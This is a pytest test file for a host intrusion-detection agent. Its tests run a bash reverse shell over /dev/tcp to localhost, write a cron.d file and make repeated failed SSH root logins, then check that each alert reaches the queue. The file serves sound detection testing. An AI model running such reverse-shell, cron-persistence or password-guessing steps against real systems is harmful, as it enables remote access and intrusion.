"""What happens on this machine stands in the queue: real steps, the real agent, the shipped rules."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.agent.helper.audit_state import audit_alone
from tests.journeys.harness import Browser, free_ports, wait_for
from tests.journeys.watched import Watched, alert

pytestmark = pytest.mark.root


@pytest.fixture(scope="module")
def watched() -> Iterator[Watched]:
    """In a directory that the agent's unprivileged process can pass through; pytest's own are closed to it."""
    with audit_alone():
        directory = Path(tempfile.mkdtemp(prefix="lienphong-"))
        directory.chmod(0o755)
        made = Watched(directory)
        try:
            made.enrol()
            made.start()
            yield made
        finally:
            made.stop()
        shutil.rmtree(directory)


def test_a_reverse_shell_stands_in_the_queue_with_host_user_and_command(watched: Watched) -> None:
    browser = Browser(watched.collector)
    (port,) = free_ports(1)
    step = f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
    subprocess.run(["bash", "-c", step], stdin=subprocess.DEVNULL, capture_output=True, timeout=20, check=False)
    wait_for(lambda: alert(browser, step), "the alert", 30)
    found = alert(browser, step)
    assert found is not None
    assert (found["level"], found["user"], found["host"]) == ("critical", "root", os.uname().nodename)
    assert found["titles"]["vi"] != found["titles"]["en"]  # type: ignore[index]
    assert f"bash -c {step}" in str(found["summary"])


def test_a_cron_job_written_by_a_shell_stands_in_the_queue(watched: Watched, tmp_path: Path) -> None:
    browser = Browser(watched.collector)
    job = Path("/etc/cron.d") / f"lienphong-test-{os.getpid()}"
    if not job.parent.is_dir():
        job.parent.mkdir()
    try:
        step = f'echo "# nothing" > {job}'
        subprocess.run(["sh", "-c", step], timeout=20, check=True)
        wait_for(lambda: alert(browser, str(job)), "the alert", 30)
    finally:
        job.unlink(missing_ok=True)


def test_failed_ssh_log_ins_stand_in_the_queue_counted(watched: Watched, tmp_path: Path) -> None:
    sshd, sshpass = shutil.which("sshd", path="/usr/sbin:/usr/bin"), shutil.which("sshpass")
    assert sshd, "openssh-server is installed by ./dev test"
    assert sshpass, "sshpass is installed by ./dev test"
    browser = Browser(watched.collector)
    (port,) = free_ports(1)
    key = tmp_path / "host_key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=True, timeout=30)
    Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)
    server = subprocess.Popen(
        [
            sshd, "-D", "-E", watched.auth_log, "-f", "/dev/null", "-p", str(port), "-h", key,
            "-o", "ListenAddress=127.0.0.1", "-o", "PasswordAuthentication=yes", "-o", "PidFile=none",
        ]
    )  # fmt: skip
    client = [
        sshpass, "-p", "wrong", "ssh", "-p", str(port), "-o", "StrictHostKeyChecking=no", "-o", "LogLevel=ERROR",
        "-o", f"UserKnownHostsFile={tmp_path}/known", "-o", "PubkeyAuthentication=no", "root@127.0.0.1", "true",
    ]  # fmt: skip
    try:
        wait_for(lambda: b"listening" in watched.auth_log.read_bytes(), "sshd listening", 20)
        for _ in range(3):
            done = subprocess.run(client, capture_output=True, timeout=60, check=False)
            assert done.returncode == 5, done.stderr
        wait_for(
            lambda: (alert(browser, "Failed password for root") or {}).get("count", 0) >= 3, "three counted", 30
        )  # type: ignore[operator]
    finally:
        server.terminate()
        server.wait(10)
    found = alert(browser, "Failed password for root")
    assert found is not None
    assert found["user"] == "root"


def test_stopped_and_started_again_nothing_is_lost(watched: Watched) -> None:
    browser = Browser(watched.collector)
    assert watched.process is not None
    watched.process.terminate()
    assert watched.process.wait(30) == 0
    watched.collector.stop()
    watched.run_agent()
    (port,) = free_ports(1)
    step = f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
    subprocess.run(["bash", "-c", step], stdin=subprocess.DEVNULL, capture_output=True, timeout=20, check=False)
    watched.collector.start()
    wait_for(lambda: alert(browser, step), "the alert of what happened while the collector was away", 60)
    assert browser.read("/summary")["lost_events"] == 0
